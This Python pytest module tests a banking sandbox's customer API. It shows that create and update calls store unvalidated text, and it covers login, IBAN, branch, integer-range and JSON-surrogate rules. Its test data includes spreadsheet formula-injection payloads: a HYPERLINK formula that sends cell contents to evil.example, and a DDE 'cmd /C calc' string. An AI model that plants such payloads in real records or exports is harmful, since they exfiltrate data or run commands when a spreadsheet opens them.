"""Dialect ``text-unchecked`` on the wire: customer create/update store whatever text the JSON
carries, as the docs describe the fields (seed page: plain ``string``/``integer`` fields,
no format, length or character rule; §3.4 "the platform stores whatever string it is given;
validation is the bank's job"). What the docs do state still holds: a login is unique (§4.1,
seed "Login unique user name"), an IBAN names one account (§3.8 ``receiver_iban``), a branch
GUID names a branch of the counterparty (§3.12.1). Raw HTTP on a real sandbox; what was
stored is read back from the sandbox's own database."""

from __future__ import annotations

import sqlite3
import uuid
from collections.abc import Iterator
from typing import Any

import pytest

from teller_app.core.embedded_sandbox import SandboxProcess, start_sandbox
from tests.sandbox.sandbox_api import TELLER_KYIV, Api

DUPLICATE = "failed to create wallet user"  # the documented 409 text's start (§4.1)
RLO, LRI, PDI = "\u202e", "\u2066", "\u2069"
HOSTILE = {
    "surname": '=HYPERLINK("http://evil.example/?x="&A1,"Шевченко")',
    "name": f"Ів{RLO}ан\x00",
    "paternal_name": "+cmd|' /C calc'!A0",
    "phone_number": "@SUM(1+1)\t\r\n",
    "segment": f"{LRI}retail{PDI}",
    "status": "-" + "x" * 2500,  # over the default 2000
    "balance_asset_code": "\x7f\x85",
}


@pytest.fixture(scope="module")
def api(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Api]:
    proc = start_sandbox(tmp_path_factory.mktemp("sb-text-unchecked"),
                         dialects=["text-unchecked"])
    assert proc.manifest["dialects"] == ["text-unchecked"]
    client = Api(proc)
    yield client
    client.http.close()
    proc.stop()


def _row(sb: SandboxProcess, guid: str) -> sqlite3.Row:
    db = sqlite3.connect(f"file:{sb.data_dir / 'sandbox.db'}?mode=ro", uri=True)
    db.row_factory = sqlite3.Row
    try:
        row = db.execute("SELECT * FROM customers WHERE guid = ?", (guid,)).fetchone()
    finally:
        db.close()
    assert row is not None
    return row


def _create(api: Api, who: str = "admin@demo.bank", **fields: Any) -> Any:
    body = {"asset_code": "UAH", "asset_issuer": api.m["asset"]["issuer"],
            "login": f"tu-{uuid.uuid4().hex[:10]}@test.ua", **fields}
    return api.post("customers", who, json=body)


def test_create_and_update_keep_any_text(api: Api) -> None:
    login = f"  Hostile{uuid.uuid4().hex[:8]}@test.ua\u202e\n"
    long_name = "Я" * 700  # over the default 500
    created = _create(api, login=login, **HOSTILE)
    assert created.status_code == 200, created.text
    guid = created.json()["customer_guid"]
    row = _row(api.sb, guid)
    assert {k: row[k] for k in HOSTILE} == HOSTILE
    assert row["login"] == login  # as sent: spaces, override and newline kept
    got = api.get(f"customers/{guid}").json()
    assert {k: got[k] for k in HOSTILE} == HOSTILE and got["login"] == login
    # the list and its search find the customer under the text as stored
    found = api.get("customers", params={"search_string": "HYPERLINK(\"http://evil"}).json()
    assert guid in [c["wallet_user_guid"] for c in found["customers"]]
    assert api.get("customers", params={"surnames": HOSTILE["surname"]}).json()["total"] == 1

    update = {"surname": f"{RLO}окненвеШ", "name": long_name, "paternal_name": "\x00",
              "status": "\n", "segment": "@x", "phone_number": "=1"}
    resp = api.put(f"customers/{guid}", json=update)
    assert resp.status_code == 200, resp.text
    row = _row(api.sb, guid)
    assert {k: row[k] for k in update} == update


def test_a_teller_may_create_them_too(api: Api) -> None:
    """Nothing depends on who sends it (Mode A teller of a branch)."""
    resp = _create(api, TELLER_KYIV, name="=cmd", surname="\u200f\u061c",
                   branch_guid=api.branch(0)["guid"])
    assert resp.status_code == 200, resp.text
    assert _row(api.sb, resp.json()["customer_guid"])["name"] == "=cmd"


def test_kyc_level_is_any_64_bit_integer(api: Api) -> None:
    for level in (-5, 10**12, 2**63 - 1, -(2**63)):
        resp = _create(api, kyc_level=level)
        assert resp.status_code == 200, (level, resp.text)
        assert _row(api.sb, resp.json()["customer_guid"])["kyc_level"] == level
    guid = _create(api).json()["customer_guid"]
    assert api.put(f"customers/{guid}", json={"kyc_level": -1}).status_code == 200
    # past int64 a Go server cannot decode the number: still a 400, never a 500
    for level in (2**63, -(2**63) - 1, 10**30):
        resp = _create(api, kyc_level=level)
        assert resp.status_code == 400 and "kyc_level" in resp.json()["error"], resp.text
        assert api.put(f"customers/{guid}", json={"kyc_level": level}).status_code == 400


def test_iban_needs_no_checksum_but_names_one_account(api: Api) -> None:
    seed_example = "AZ21DGOK50994005088730349858"  # seed line 149; fails mod-97
    resp = _create(api, iban=seed_example)
    assert resp.status_code == 200, resp.text
    assert resp.json()["iban"] == seed_example
    again = _create(api, iban=seed_example.lower())  # stored compact, upper case: same IBAN
    assert again.status_code == 400 and again.json()["error"] == "iban already in use"


def test_logins_are_unique_as_sent(api: Api) -> None:
    login = f"Case.{uuid.uuid4().hex[:8]}@Test.ua"
    assert _create(api, login=login).status_code == 200
    assert _create(api, login=login.lower()).status_code == 200  # another login
    assert _create(api, login=f" {login}").status_code == 200  # so is a spaced one
    dup = _create(api, login=login)
    assert dup.status_code == 400 and dup.json()["error"].startswith(DUPLICATE)
    blank = _create(api, login="   ")  # blank: the new customer's GUID, as by default
    assert blank.status_code == 200
    guid = blank.json()["customer_guid"]
    assert _row(api.sb, guid)["login"] == guid


def test_a_deleted_branch_may_be_given_an_unknown_one_may_not(api: Api) -> None:
    made = api.post("branches", json={"name": f"Closed {uuid.uuid4().hex[:8]}"})
    assert made.status_code == 200, made.text
    branch = made.json()["guid"]
    assert api.put(f"branches/{branch}", json={"is_deleted": True}).status_code == 200
    resp = _create(api, branch_guid=branch)
    assert resp.status_code == 200, resp.text
    guid = resp.json()["customer_guid"]
    assert _row(api.sb, guid)["branch_guid"] == branch
    moved = api.put(f"customers/{guid}",
                    json={"branch_guid": {"valid": True, "value": api.branch(1)["guid"]}})
    assert moved.status_code == 200
    back = api.put(f"customers/{guid}", json={"branch_guid": {"valid": True, "value": branch}})
    assert back.status_code == 200 and _row(api.sb, guid)["branch_guid"] == branch
    unknown = _create(api, branch_guid=str(uuid.uuid4()))
    assert unknown.status_code == 400 and unknown.json()["error"] == "branch not found"


def test_an_unpaired_surrogate_escape_is_read_as_go_reads_it(api: Api) -> None:
    """JSON may carry ``\\ud800`` alone (RFC 8259 §8.2): Go's decoder reads U+FFFD; it was a
    500 (SQLite cannot store it). A proper pair is the character it encodes."""
    login = f"sur-{uuid.uuid4().hex[:8]}"
    issuer = api.m["asset"]["issuer"]
    raw = (f'{{"asset_code": "UAH", "asset_issuer": "{issuer}", "login": "{login}", '
           '"name": "a\\ud800b", "surname": "\\ud83d\\ude00\\udfff"}').encode()
    resp = api.http.post(api.url("customers"), content=raw,
                         headers={**api.headers("admin@demo.bank"),
                                  "Content-Type": "application/json"})
    assert resp.status_code == 200, resp.text
    row = _row(api.sb, resp.json()["customer_guid"])
    assert (row["name"], row["surname"]) == ("a\ufffdb", "\U0001f600\ufffd")
    update = api.http.put(api.url(f"customers/{row['guid']}"), content=b'{"status": "\\udc00"}',
                          headers={**api.headers("admin@demo.bank"),
                                   "Content-Type": "application/json"})
    assert update.status_code == 200, update.text
    assert _row(api.sb, row["guid"])["status"] == "\ufffd"
